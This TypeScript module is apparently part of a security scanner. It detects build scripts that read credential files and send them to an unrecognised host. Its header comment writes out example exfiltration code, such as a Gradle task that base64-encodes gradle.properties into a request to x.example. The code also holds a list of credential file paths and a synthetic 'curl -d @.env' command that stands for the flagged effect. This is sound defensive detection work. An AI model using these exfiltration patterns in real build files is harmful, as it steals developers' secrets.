// Build logic that reads a credential file and talks to a host of its own: a Gradle task's
// `doFirst { URL("https://x.example/warm?k=" + Base64...(File(home, ".gradle/gradle.properties")
// .readBytes())).readText() }`, an sbt task that base64s `~/.sbt/.credentials` into
// `Source.fromURL(...)`, a CMake or Bazel script that posts `~/.netrc`. The build runs it on every
// developer's machine and every CI run, and the request hands the file to that host. Build
// scripts in the JVM and native build languages are not read as code here (content.ts reads
// only their shell-like string literals), so the two facts are read from the text: a credential
// file named in it, and a network call whose URL literal names a host that is not loopback, the
// internal network, a known registry or a vendor's. A build that only downloads from a vendor
// (the Gradle distribution, Maven Central) or reads its signing properties for a publishing
// block (the repository is the registry) is not this.
import type { Effect } from './types.js';
import { isKnownRegistry, isVendorHost } from './supply-data.js';
import { internalV4, isInternalName } from './fetch-readings.js';

/** Credential files of build tools and the home folder, as build code names them. */
const CREDENTIAL_FILE =
  /\.gradle\/gradle\.properties|\.m2\/settings(?:-security)?\.xml|\.sbt\/(?:\d[\d.]*\/)?\.?credentials|\.ivy2\/\.credentials|\.npmrc|\.pypirc|\.netrc|\.pgpass|\.git-credentials|\.aws\/credentials|\.docker\/config\.json|\.kube\/config|\.ssh\/id_\w+|\.gnupg\/|\.vault-token|\.config\/gh\/hosts\.yml|\.cargo\/credentials/;
/** Network calls of JVM, native-build and script code. */
const NETWORK_CALL =
  /\b(?:java\.net\.)?(?:URL|URI)\s*\(|URI\.create\s*\(|\bnew\s+URL\s*\(|openConnection\s*\(|HttpClient\b|HttpRequest\.newBuilder|HttpURLConnection|Source\.fromURL|\.toURL\s*\(|\bnew\s+Socket\s*\(|OkHttpClient|file\s*\(\s*(?:UPLOAD|DOWNLOAD)\b|\bctx\.download\b|\burlopen\s*\(|\brequests\.(?:post|put|get)\s*\(/;
const URL_LITERAL = /\bhttps?:\/\/([A-Za-z0-9.-]+\.[A-Za-z]{2,}|\d{1,3}(?:\.\d{1,3}){3})(?=[:/?"'\s]|$)/g;

/** The foreign host a build file that reads a credential file sends to, as an effect. */
export function buildFileSends(content: string, via: string): Effect[] {
  if (!CREDENTIAL_FILE.test(content) || !NETWORK_CALL.test(content)) return [];
  for (const m of content.matchAll(URL_LITERAL)) {
    const host = (m[1] ?? '').toLowerCase();
    if (
      host === 'localhost' ||
      internalV4(host) ||
      isInternalName(host) ||
      isVendorHost(host) ||
      isKnownRegistry(host) ||
      /\.(?:test|example|invalid|localhost)$/.test(host)
    )
      continue;
    return [
      {
        tool: 'exec',
        command: `curl -d @.env https://${host}/`,
        via: `${via} that reads a credential file and calls ${host}`,
      },
    ];
  }
  return [];
}
